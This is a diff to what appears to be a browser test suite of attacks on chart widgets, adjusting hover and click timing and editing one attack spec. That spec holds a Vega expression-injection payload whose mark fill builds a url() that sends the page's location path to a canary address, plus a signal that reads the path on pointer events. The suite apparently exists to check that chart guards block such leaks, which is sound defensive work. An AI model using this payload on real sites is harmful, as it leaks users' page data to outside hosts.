@@ -1,5 +1,6 @@
 import type { Aim, ReportOf, Shown, WidgetAttack } from './attack.ts'
 import { compileGuard } from './guards.ts'
+import { until } from './scene.ts'
 
 const checks = ['charts are checked when saved', compileGuard] as const
 const loader = 'charts load nothing'
@@ -28,11 +29,15 @@ const chart = (
 /** The mark that an attack is drawn as, found by the widget that it is in. */
 const overMark =
   (name: string, isPressed = false) =>
-  async ({ frame }: Shown): Promise<void> => {
+  async ({ frame, hits }: Shown): Promise<void> => {
     const mark = frame.locator(`[data-widget="${name}"] .mark-rect path, [data-widget="${name}"] .mark-image image`).first()
-    if ((await mark.count()) === 0) return
+    // There is none where the chart is refused.
+    if (!(await until(async () => (await mark.count()) > 0, 3000))) return
     await mark.hover({ force: true })
-    if (isPressed) await mark.click({ force: true })
+    if (!isPressed) return
+    await mark.click({ force: true })
+    // A frame that goes elsewhere does so after the click.
+    await until(() => hits.has(name), 1500)
   }
 
 const address = (aim: Aim, name: string): string => `${aim.canary}/${name}`
@@ -82,11 +87,16 @@ export const chartAttacks: readonly WidgetAttack[] = [
     'c-read',
     [...checks, paint],
     (aim) => ({
-      spec: { ...bar, mark: { type: 'bar', fill: { expr: `'ur' + 'l(${address(aim, 'c-read')}?' + event.view.document.title + '#a)'` } } },
+      spec: {
+        ...bar,
+        mark: { type: 'bar', fill: { expr: `'ur' + 'l(${address(aim, 'c-read')}?' + event.view.location.pathname + '#a)'` } },
+      },
       vega: {
         ...room,
         data,
-        signals: [{ name: 'leak', value: '', on: [{ events: 'pointermove', update: 'event.view.document.title' }] }],
+        signals: [
+          { name: 'leak', value: '', on: [{ events: 'pointermove, mousemove, pointerover', update: 'event.view.location.pathname' }] },
+        ],
         marks: [
           {
             type: 'rect',
